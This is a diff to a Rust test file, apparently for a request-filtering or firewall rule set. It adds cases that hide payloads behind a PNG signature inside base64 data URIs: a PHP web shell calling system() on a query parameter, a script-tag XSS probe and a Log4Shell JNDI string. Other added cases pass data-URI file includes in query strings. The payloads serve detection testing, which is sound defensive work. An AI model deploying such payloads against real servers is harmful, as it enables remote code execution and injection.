@@ -943,6 +943,28 @@ fn raster_images_in_data_uris_pass() {
     assert!(post_rule(JSON, &both).is_some());
     let include = format!(r#"{{"include_path": "{PNG}"}}"#);
     assert!(post_rule(JSON, &include).is_some());
+    // A picture that carries code behind its signature (a polyglot), in
+    // a body, and any picture in a query string (a file to include:
+    // `?page=data:…`), in every case of the scheme.
+    use base64::Engine as _;
+    let png_head =
+        b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89";
+    for code in [
+        &b"<?php system($_GET['c']); ?>"[..],
+        b"<ScRiPt>alert(1)</script>",
+        b"${jndi:ldap://x/a}",
+    ] {
+        let poly = base64::engine::general_purpose::STANDARD.encode([&png_head[..], &[0u8; 32], code].concat());
+        let body = format!(r#"{{"avatar": "data:image/png;base64,{poly}"}}"#);
+        assert!(post_rule(JSON, &body).is_some(), "{}", String::from_utf8_lossy(code));
+    }
+    for scheme in ["data", "DATA"] {
+        let uri = format!(
+            "/w?page={}",
+            PNG.replacen("data", scheme, 1).replace('+', "%2B").replace('/', "%2F")
+        );
+        assert!(rule_for(&uri).is_some(), "{uri}");
+    }
 }
 
 /// A timer given a function runs no string; one given a string, a
